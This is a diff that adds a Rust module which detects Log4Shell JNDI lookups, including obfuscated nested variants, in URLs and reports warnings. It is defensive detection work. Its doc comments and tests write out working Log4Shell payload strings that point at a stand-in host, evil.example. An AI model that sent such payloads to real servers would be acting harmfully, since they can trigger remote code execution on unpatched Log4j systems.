@@ -1,0 +1,298 @@
+//! Log4j lookups (`jndi-lookup`): `${jndi:ldap://evil.example/a}` in a
+//! component. A server running Log4j 2 before 2.15 (CVE-2021-44228,
+//! "Log4Shell") resolves the lookups of every text it logs: this one asks
+//! the named directory (LDAP, RMI, DNS...) for a Java object, and may load
+//! and run the code it is sent. Request logs hold the URL, so the URL is
+//! the attack whoever the link's visitor is.
+//!
+//! Attackers hide the word `jndi` in nested lookups Log4j resolves first
+//! (`${${lower:j}ndi:`, `${${::-j}${::-n}${::-d}${::-i}:`,
+//! `${${env:X:-j}ndi:`): the nested lookups are resolved as Log4j resolves
+//! those that need nothing of the server's state (`lower`, `upper`, and
+//! any lookup's default after `:-`); the others stay as written, and so
+//! never spell `jndi`. One pass, each byte copied once per level of
+//! nesting, at most [`MAX_DEPTH`] levels.
+
+use crate::analysis::ComponentAnalysis;
+use crate::split::Span;
+use crate::text::quote;
+use crate::warnings::{Warning, WarningCode};
+
+/// The deepest nesting of lookups resolved; deeper, `${` is text.
+const MAX_DEPTH: usize = 16;
+
+/// A JNDI lookup found in a text: where it is (its `${` to its `}`), and
+/// the name it looks up, its lookups resolved (`ldap://evil.example/a`).
+#[derive(Debug, PartialEq, Eq)]
+pub(crate) struct JndiLookup {
+    pub(crate) start: usize,
+    pub(crate) end: usize,
+    pub(crate) name: Vec<u8>,
+    /// Whether nested lookups spelled part of it.
+    pub(crate) nested: bool,
+}
+
+/// The JNDI lookups of `text`, as Log4j would resolve them: every closed
+/// lookup, at any depth (Log4j resolves the nested ones too, so
+/// `${lower:${jndi:...}}` looks its name up), whose body, its own nested
+/// lookups resolved, starts with `jndi:`. One pass with a stack of the
+/// open lookups' bodies; an unclosed `${` is text.
+pub(crate) fn jndi_lookups(text: &[u8]) -> Vec<JndiLookup> {
+    struct Open {
+        start: usize,
+        body: Vec<u8>,
+        nested: bool,
+    }
+    let mut found = Vec::new();
+    let mut open: Vec<Open> = Vec::new();
+    // `${` deeper than MAX_DEPTH, read as text, whose `}` is text too.
+    let mut too_deep = 0usize;
+    let mut i = 0;
+    while let Some(&b) = text.get(i) {
+        if b == b'$' && text.get(i + 1) == Some(&b'{') {
+            if open.len() < MAX_DEPTH {
+                if let Some(parent) = open.last_mut() {
+                    parent.nested = true;
+                }
+                open.push(Open {
+                    start: i,
+                    body: Vec::new(),
+                    nested: false,
+                });
+            } else {
+                too_deep += 1;
+                if let Some(top) = open.last_mut() {
+                    top.body.extend_from_slice(b"${");
+                }
+            }
+            i += 2;
+            continue;
+        }
+        if b == b'}' && too_deep > 0 {
+            too_deep -= 1;
+        } else if b == b'}' {
+            if let Some(done) = open.pop() {
+                let jndi = done
+                    .body
+                    .get(..5)
+                    .is_some_and(|h| h.eq_ignore_ascii_case(b"jndi:"));
+                if jndi {
+                    found.push(JndiLookup {
+                        start: done.start,
+                        end: i + 1,
+                        name: done.body.get(5..).unwrap_or_default().to_vec(),
+                        nested: done.nested,
+                    });
+                }
+                if let Some(parent) = open.last_mut() {
+                    parent.body.extend_from_slice(&value(&done.body));
+                }
+                i += 1;
+                continue;
+            }
+        }
+        if let Some(top) = open.last_mut() {
+            top.body.push(b);
+        }
+        i += 1;
+    }
+    found.sort_by_key(|l| l.start);
+    found
+}
+
+/// What a nested lookup gives back, for those that need nothing of the
+/// server's state: a default after `:-` (`${::-j}`, `${env:NOPE:-j}`),
+/// `lower:` and `upper:`; any other stays as written.
+fn value(body: &[u8]) -> Vec<u8> {
+    if let Some(d) = memchr::memmem::find(body, b":-") {
+        return body.get(d + 2..).unwrap_or_default().to_vec();
+    }
+    let after = |prefix: &[u8]| {
+        body.get(..prefix.len())
+            .filter(|h| h.eq_ignore_ascii_case(prefix))
+            .and_then(|_| body.get(prefix.len()..))
+    };
+    if let Some(rest) = after(b"lower:") {
+        return rest.to_ascii_lowercase();
+    }
+    if let Some(rest) = after(b"upper:") {
+        return rest.to_ascii_uppercase();
+    }
+    let mut kept = b"${".to_vec();
+    kept.extend_from_slice(body);
+    kept.push(b'}');
+    kept
+}
+
+/// `jndi-lookup` for the input as written, whole: a log holds the URL's
+/// bytes, and a lookup may span components (`/${jndi:ldap://evil/x}`
+/// reads as three path segments). `component_at` gives the component a
+/// byte is in.
+pub(crate) fn input_lookup_warnings(
+    input: &[u8],
+    component_at: impl Fn(usize) -> Option<usize>,
+    out: &mut Vec<Warning>,
+) {
+    if memchr::memmem::find(input, b"${").is_none() {
+        return;
+    }
+    for l in jndi_lookups(input) {
+        let span = Span::new(l.start, l.end);
+        out.push(warning(
+            &l,
+            span.of(input),
+            span,
+            component_at(l.start),
+            "URL",
+        ));
+    }
+}
+
+/// `jndi-lookup` for component `i` once decoded, where decoding changed
+/// it (`%24%7Bjndi:...`; the input as written is read whole by
+/// [`input_lookup_warnings`]): an application that logs the value logs it
+/// decoded. The component is marked whole.
+pub(crate) fn lookup_warnings(i: usize, c: &ComponentAnalysis, out: &mut Vec<Warning>) {
+    let text = c.last_layer();
+    if text == c.span.of(&c.input) || memchr::memmem::find(text, b"${").is_none() {
+        return;
+    }
+    for l in jndi_lookups(text) {
+        let written = text.get(l.start..l.end).unwrap_or_default();
+        out.push(warning(&l, written, c.span, Some(i), c.kind.label()));
+    }
+}
+
+/// The warning of lookup `l`, written `written`, at `span` of component
+/// `component`, in a text a server logs as `what`.
+fn warning(
+    l: &JndiLookup,
+    written: &[u8],
+    span: Span,
+    component: Option<usize>,
+    what: &str,
+) -> Warning {
+    let name = String::from_utf8_lossy(&l.name);
+    let server = url::Url::parse(&name)
+        .ok()
+        .and_then(|u| {
+            let host = crate::text::quote_str(u.host_str()?);
+            Some(match u.port() {
+                Some(port) => format!("the directory at '{host}:{port}'"),
+                None => format!("the directory at '{host}'"),
+            })
+        })
+        .unwrap_or_else(|| "the directory it names".to_string());
+    let nested = if l.nested {
+        " (its letters spelled by nested lookups Log4j resolves first)"
+    } else {
+        ""
+    };
+    Warning::new(
+        WarningCode::JndiLookup,
+        vec![span],
+        component,
+        format!(
+            "'{}' is a Log4j lookup of the JNDI name '{}'{nested}: a server running Log4j 2 before 2.15 that logs this {what} asks {server} for a Java object and may run the code it is sent (CVE-2021-44228, Log4Shell).",
+            quote(written),
+            quote(&l.name),
+        ),
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn names(text: &str) -> Vec<(String, bool)> {
+        jndi_lookups(text.as_bytes())
+            .into_iter()
+            .map(|l| (String::from_utf8_lossy(&l.name).into_owned(), l.nested))
+            .collect()
+    }
+
+    #[test]
+    fn lookups_are_resolved_as_log4j_does() {
+        let plain = ("ldap://evil.example:1389/a".to_string(), false);
+        assert_eq!(names("${jndi:ldap://evil.example:1389/a}"), [plain.clone()]);
+        assert_eq!(names("x=${JNDI:ldap://evil.example:1389/a}&y"), [plain]);
+        for hidden in [
+            "${${lower:j}ndi:ldap://evil.example/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
+            "${${env:NOPE:-j}ndi:ldap://evil.example/a}",
+            "${${upper:j}${lower:N}di:${lower:L}dap://evil.example/a}",
+            "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://evil.example/a}",
+        ] {
+            let found = names(hidden);
+            assert_eq!(found.len(), 1, "{hidden}");
+            assert!(
+                found[0].0.eq_ignore_ascii_case("ldap://evil.example/a"),
+                "{hidden}: {found:?}"
+            );
+            assert!(found[0].1, "{hidden}");
+        }
+        // Near misses: other lookups, text, an unclosed lookup.
+        for text in [
+            "${env:HOME}",
+            "${date:yyyy}",
+            "${jndi",
+            "$jndi:ldap://x",
+            "{jndi:ldap://x}",
+            "${${env:J}ndi:ldap://x}",
+        ] {
+            assert!(names(text).is_empty(), "{text}");
+        }
+    }
+
+    /// The warning: on the lookup's bytes in the input, whole where it
+    /// spans components; on the component when decoding wrote it.
+    #[test]
+    fn the_warning_marks_the_lookup() {
+        use crate::{analyze, Options};
+        let marked = |url: &str| -> Vec<(String, crate::warnings::Severity)> {
+            analyze(url.as_bytes(), &Options::default())
+                .warnings
+                .iter()
+                .filter(|w| w.code == WarningCode::JndiLookup)
+                .map(|w| {
+                    (
+                        String::from_utf8_lossy(w.span.of(url.as_bytes())).into_owned(),
+                        w.severity,
+                    )
+                })
+                .collect()
+        };
+        let high = crate::warnings::Severity::High;
+        assert_eq!(
+            marked("https://v.example/a/${jndi:ldap://evil.example/x}/b"),
+            [("${jndi:ldap://evil.example/x}".to_string(), high)]
+        );
+        assert_eq!(
+            marked("https://v.example/?q=%24%7Bjndi:dns://evil.example%7D"),
+            [("%24%7Bjndi:dns://evil.example%7D".to_string(), high)]
+        );
+        for url in [
+            "https://v.example/?q=${env:HOME}",
+            "https://v.example/{jndi:x}",
+        ] {
+            assert!(marked(url).is_empty(), "{url}");
+        }
+        // The fast path sends it to the analysis at every threshold.
+        let url = b"https://v.example/?q=${jndi:ldap://evil.example/x}";
+        assert!(!crate::triage::is_plain_at(
+            url,
+            crate::warnings::Severity::High
+        ));
+    }
+
+    /// Hostile nesting: deep, unclosed, long, in linear time.
+    #[test]
+    fn deep_and_unclosed_nesting_is_bounded() {
+        let deep = "${".repeat(100_000) + &"}".repeat(100_000);
+        assert!(names(&deep).is_empty());
+        let open = "${".repeat(200_000);
+        assert!(names(&open).is_empty());
+        let many = "${jndi:ldap://x/}".repeat(10_000);
+        assert_eq!(names(&many).len(), 10_000);
+    }
+}
